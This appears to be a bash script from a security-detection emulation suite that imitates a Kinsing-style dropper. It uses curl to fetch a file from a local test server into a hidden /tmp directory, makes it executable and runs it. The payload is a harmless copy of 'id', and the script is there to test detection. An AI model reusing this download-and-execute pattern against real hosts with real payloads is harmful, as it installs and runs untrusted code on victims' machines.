#!/bin/bash
# vigil-emulation: attack
# technique: T1105 Ingress Tool Transfer; T1204.002 User Execution: Malicious File
# tactic: execution, command-and-control
# what: a dropper: curl downloads an ELF binary from a web server the scenario runs on
#   127.0.0.1 into a hidden directory under /tmp, marks it executable and runs it (the
#   "payload" is a copy of /usr/bin/id named kdevtmpfsi, like the Kinsing miner's).
# report: a freshly downloaded file executed from /tmp: written by curl, chmod +x, then
#   executed, within seconds.
# expect: download|dropped|ingress|executed from /tmp|new executable|untrusted location
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl

emul_tmpdir
www=$EMUL_DIR/www
mkdir -p "$www"
cp /usr/bin/id "$www/kdevtmpfsi"
emul_server http --dir "$www"
drop=/tmp/.vigil-emul-$$
mkdir -p "$drop"
emul_on_exit rm -rf -- "$drop"
cd "$drop"
curl -s -o kdevtmpfsi "http://127.0.0.1:$EMUL_PORT/kdevtmpfsi"
chmod +x kdevtmpfsi
./kdevtmpfsi
